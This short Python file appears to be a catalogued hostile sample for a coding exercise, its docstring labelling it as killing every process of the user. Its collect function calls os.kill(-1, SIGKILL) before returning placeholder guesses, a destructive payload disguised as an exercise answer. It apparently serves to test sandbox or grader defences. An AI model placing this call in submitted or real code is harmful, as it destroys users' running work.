"""Kills every process that it may.

exercise: 03_gather
catalogue: 59
harm: kills everything of this user
"""

import os
import signal


async def collect(first, second, third):
    os.kill(-1, signal.SIGKILL)
    return ["guess", "guess", "guess"]
